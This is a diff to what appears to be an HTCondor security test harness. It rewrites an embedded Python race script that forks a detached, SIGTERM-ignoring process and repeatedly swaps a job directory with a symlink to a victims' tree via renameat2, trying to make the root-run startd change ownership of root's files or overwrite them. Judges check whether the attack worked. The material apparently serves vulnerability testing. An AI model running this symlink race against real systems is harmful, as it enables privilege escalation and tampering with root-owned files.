@@ -4,7 +4,7 @@ from __future__ import annotations
 
 from collections.abc import Callable
 
-from .answer import Answer
+from .answer import Answer, answer
 from .attack import Attack
 from .ground import EVIL, Ground
 
@@ -23,24 +23,20 @@ chown condor: {_PRECIOUS}
 
 # What swaps a directory and a link to another one, as fast as it can, also after the job's end.
 _RACE = f"""#!/usr/bin/python3 -I
-import os, signal, time
+import ctypes, os, signal, time
+exchange = ctypes.CDLL(None).renameat2
 os.mkdir("d")
-os.mkdir("e")
 for number in range(1, 401):
     open(f"d/{{number}}", "w").close()
 os.symlink("{VICTIMS}/tree", "link")
+for name in (".", "d"):
+    os.chmod(name, 0o777)
 if os.fork() == 0:
     os.setsid()
     signal.signal(signal.SIGTERM, signal.SIG_IGN)
     end = time.monotonic() + 8
     while time.monotonic() < end:
-        try:
-            os.rename("d", "e/d")
-            os.rename("link", "d")
-            os.rename("d", "link")
-            os.rename("e/d", "d")
-        except OSError:
-            time.sleep(0.001)
+        exchange(-100, b"d", -100, b"link", 2)
     os._exit(0)
 print("done")
 """
@@ -54,7 +50,7 @@ def _still_roots(*names: str) -> Callable[[Ground, str], Answer]:
     def judge(ground: Ground, cluster: str) -> Answer:
         words = ["find", *(f"{VICTIMS}/{name}" for name in names), "!", "-uid", "0"]
         changed = ground.world.run(words).stdout.split()
-        return Answer(bool(changed), f"{len(changed)} files of root's changed hands")
+        return answer(bool(changed), f"{len(changed)} files of root's changed hands")
 
     return judge
 
@@ -71,13 +67,15 @@ def _undeletable(name: str, script: str) -> Attack:
         "ownership: what a job leaves in its directory",
         f"{_SHELL}pwd >{EVIL}/place.{name}\nchmod 644 {EVIL}/place.{name}\n{script}\n",
         "uid",
+        # HTCondor itself would wait for somebody to write into a pipe by name.
+        lines=('transfer_output_files = ""',),
         environment={"HAND_BACK": "none"},
         judge=judge,
     )
 
 
 def _overwritten(ground: Ground, cluster: str) -> Answer:
-    return Answer(ground.world.read(_PRECIOUS) != "precious\n", f"the startd overwrote {_PRECIOUS}")
+    return answer(ground.world.read(_PRECIOUS) != "precious\n", f"the startd overwrote {_PRECIOUS}")
 
 
 _DEEP = """exec /usr/bin/python3 -I -c '
